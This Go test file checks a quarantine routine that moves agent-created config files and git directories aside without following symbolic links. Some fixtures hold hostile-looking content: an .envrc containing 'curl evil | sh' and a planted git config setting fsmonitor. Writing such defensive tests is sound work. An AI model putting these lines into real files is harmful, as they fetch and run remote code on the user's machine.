package protect

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestQuarantineFollowsNoLink: the move into the quarantine follows no
// link, on either side. In the writable directory a link the command made
// on the way to a watched path is itself quarantined and its target left
// alone; in the quarantine a link where a directory should be is set
// aside (pathguard.OpenPrivateDir), never written through. Each case has
// its control: the naive move (a path rename, which follows links) does
// land in the link's target.
func TestQuarantineFollowsNoLink(t *testing.T) {
	t.Run("link in the writable dir", func(t *testing.T) {
		w, outside := t.TempDir(), t.TempDir()
		target := filepath.Join(outside, "settings.json")
		if err := os.WriteFile(target, []byte("the user's"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(w, ".claude")); err != nil {
			t.Fatal(err)
		}
		watched := filepath.Join(w, ".claude", "settings.json")
		// Control: a path-based move through the link takes the target.
		if _, err := os.Stat(watched); err != nil {
			t.Fatalf("control: the link does not reach %s (untested): %v", target, err)
		}
		q := &quarantine{dir: filepath.Join(t.TempDir(), "q")}
		q.moveAt(w, watched, "test")
		if b, err := os.ReadFile(target); err != nil || string(b) != "the user's" {
			t.Fatalf("the link's target was moved: %q %v", b, err)
		}
		if len(q.items) != 1 || q.items[0].Path != filepath.Join(w, ".claude") || q.items[0].To == "" {
			t.Fatalf("quarantined %+v, want the link itself", q.items)
		}
		if fi, err := os.Lstat(q.items[0].To); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Fatalf("quarantine holds %v %v, want the link", fi, err)
		}
	})
	t.Run("link in the quarantine", func(t *testing.T) {
		w, elsewhere, qdir := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "q")
		made := filepath.Join(w, ".mcp.json")
		if err := os.WriteFile(made, []byte(`{"mcpServers":{}}`), 0o644); err != nil {
			t.Fatal(err)
		}
		dest := filepath.Join(qdir, strings.TrimPrefix(w, "/"))
		if err := os.MkdirAll(filepath.Dir(dest), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(elsewhere, dest); err != nil {
			t.Fatal(err)
		}
		// Control: a path rename into the planted link lands elsewhere.
		probe := filepath.Join(w, "probe")
		if err := os.WriteFile(probe, nil, 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(probe, filepath.Join(dest, "probe")); err != nil {
			t.Fatalf("control: the naive move did not go through the link (untested): %v", err)
		}
		if err := os.Remove(filepath.Join(elsewhere, "probe")); err != nil {
			t.Fatalf("control: the naive move did not land in %s (untested): %v", elsewhere, err)
		}
		q := &quarantine{dir: qdir}
		q.moveAt(w, made, "test")
		if ents, _ := os.ReadDir(elsewhere); len(ents) != 0 {
			t.Fatalf("the quarantine wrote through the link into %s: %v", elsewhere, ents)
		}
		if len(q.items) != 1 || q.items[0].To != filepath.Join(dest, ".mcp.json") {
			t.Fatalf("quarantined %+v", q.items)
		}
		if fi, err := os.Lstat(dest); err != nil || !fi.IsDir() {
			t.Fatalf("%s: %v %v, want a directory made again", dest, fi, err)
		}
		if b, err := os.ReadFile(q.items[0].To); err != nil || !strings.Contains(string(b), "mcpServers") {
			t.Fatalf("quarantine %s: %q %v", q.items[0].To, b, err)
		}
	})
	t.Run("quarantine writable by others", func(t *testing.T) {
		w, qdir := t.TempDir(), filepath.Join(t.TempDir(), "q")
		made := filepath.Join(w, ".envrc")
		if err := os.WriteFile(made, []byte("curl evil | sh"), 0o644); err != nil {
			t.Fatal(err)
		}
		dest := filepath.Join(qdir, strings.TrimPrefix(w, "/"))
		if err := os.MkdirAll(dest, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(dest, 0o777); err != nil {
			t.Fatal(err)
		}
		q := &quarantine{dir: qdir}
		q.moveAt(w, made, "test")
		fi, err := os.Lstat(dest)
		if err != nil || fi.Mode().Perm()&0o022 != 0 {
			t.Fatalf("%s: %v %v, want it set aside and made again closed to others", dest, fi, err)
		}
		if len(q.items) != 1 || q.items[0].To != filepath.Join(dest, ".envrc") {
			t.Fatalf("quarantined %+v", q.items)
		}
	})
}

// TestStripGitDirMovesLinks: in a git directory the command made, a
// config, hooks or info that is a symbolic link (git follows each) is
// moved to the quarantine, and what it points to is left alone. Control:
// before the strip, each link reaches the planted file.
func TestStripGitDirMovesLinks(t *testing.T) {
	w := t.TempDir()
	d := filepath.Join(w, "r", ".git")
	for _, sub := range []string{"objects", "refs"} {
		os.MkdirAll(filepath.Join(d, sub), 0o755)
	}
	os.WriteFile(filepath.Join(d, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
	evil := filepath.Join(w, "evil")
	os.MkdirAll(evil, 0o755)
	os.WriteFile(filepath.Join(evil, "config"), []byte("[core]\n\tfsmonitor = x\n"), 0o644)
	os.WriteFile(filepath.Join(evil, "pre-commit"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(filepath.Join(evil, "attributes"), []byte("* filter=x\n"), 0o644)
	os.Symlink(filepath.Join(evil, "config"), filepath.Join(d, "config"))
	os.Symlink(evil, filepath.Join(d, "hooks"))
	os.Symlink(evil, filepath.Join(d, "info"))
	for _, p := range []string{"config", "hooks/pre-commit", "info/attributes"} {
		if _, err := os.Stat(filepath.Join(d, p)); err != nil {
			t.Fatalf("control: %s not reached through its link (untested): %v", p, err)
		}
	}
	q := &quarantine{dir: t.TempDir()}
	q.stripGitDir(d, []string{w})
	for _, p := range []string{"config", "hooks", "info"} {
		if _, err := os.Lstat(filepath.Join(d, p)); err == nil {
			t.Errorf("%s, a link, still in the new git directory", p)
		}
	}
	if len(q.items) != 3 {
		t.Errorf("quarantined %d items, want 3: %+v", len(q.items), q.items)
	}
	if _, err := os.Stat(filepath.Join(evil, "config")); err != nil {
		t.Errorf("the link's target was touched: %v", err)
	}
}
